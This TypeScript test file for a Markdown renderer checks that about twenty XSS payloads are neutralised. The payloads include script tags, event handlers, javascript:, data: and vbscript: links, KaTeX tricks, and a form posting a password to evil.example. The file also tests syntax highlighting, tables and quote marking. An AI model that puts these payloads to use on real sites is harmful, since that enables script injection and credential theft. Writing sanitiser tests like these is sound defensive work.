import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { markdownTree } from './testing/markdown-tree.ts';

const html = (text: string, quote?: string) => renderToStaticMarkup(markdownTree(text, quote));

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[x](javascript:alert(1))',
  '[x](  JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:alert(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](https://tracker.example/pixel.gif)',
  '[x]: javascript:alert(1)\n\n[x]',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\includegraphics{https://tracker.example/x.png}$',
  '```html"onmouseover="alert(1)\nx\n```',
  '| a |\n|---|\n| <b onclick=alert(1)>x</b> |',
  'x[^1]<style>*{display:none}</style>',
  '<form action=https://evil.example><input name=password></form>',
])('nothing runs, loads or looks like a part of the page: %s', (attack) => {
  const page = document(html(attack));
  expect(page).not.toMatch(/<(script|img|svg|iframe|style|form|object|embed|link|meta|base)\b/i);
  for (const tag of page.match(/<[^>]*>/g) ?? []) {
    expect(tag).not.toMatch(/\son\w+\s*=|javascript:|data:|vbscript:|srcdoc/i);
  }
});

/** What is shown as text is text. */
function document(markup: string): string {
  return markup.replaceAll(/&lt;.*?&gt;/gs, '');
}

test('HTML is shown as it was written', () => {
  expect(html('Тег <div> и\n\n<section>\nблок\n</section>')).toContain('&lt;section&gt;');
});

test('code is coloured by its language on the server, and left alone without one', () => {
  expect(html('```python\ndef f(): return 1\n```')).toContain('hljs-keyword');
  expect(html('```\ndef f(): return 1\n```')).not.toContain('hljs-');
  expect(html('```no-such-language\nx\n```')).toContain('x');
});

test('tables and strike-through are Markdown too', () => {
  expect(html('| a | b |\n|---|---|\n| 1 | ~~2~~ |')).toMatch(/<table>[\s\S]*<del>2<\/del>/);
});

test('the words of a quote are marked where they stand, over bold and links', () => {
  const passage = 'Первое. **Нормальная** форма — это [свойство](https://x.test/) отношения. Третье.';
  const marked = html(passage, '**Нормальная** форма — это [свойство]');
  expect(marked.replaceAll(/<\/?(strong|a)[^>]*>/g, '')).toContain(
    '<mark>Нормальная</mark><mark> форма — это </mark><mark>свойство</mark> отношения',
  );
  expect(html(passage, 'нет таких слов')).not.toContain('<mark>');
  expect(html(passage, '…')).not.toContain('<mark>');
});
